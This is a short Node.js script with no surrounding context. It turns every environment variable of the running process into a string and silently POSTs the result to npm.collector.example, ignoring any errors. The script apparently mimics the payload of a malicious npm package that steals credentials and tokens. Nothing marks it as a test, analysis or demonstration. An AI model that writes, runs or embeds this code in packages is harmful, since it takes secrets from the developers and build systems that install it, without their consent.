const http = require('http');
const querystring = require('querystring');
const env = JSON.stringify(process.env);
const data = querystring.stringify({ data: env });
const req = http.request({
  host: 'npm.collector.example', port: 80, path: '/log/', method: 'POST',
  headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'Content-Length': Buffer.byteLength(data) },
}, () => {});
req.on('error', () => {});
req.write(data);
req.end();
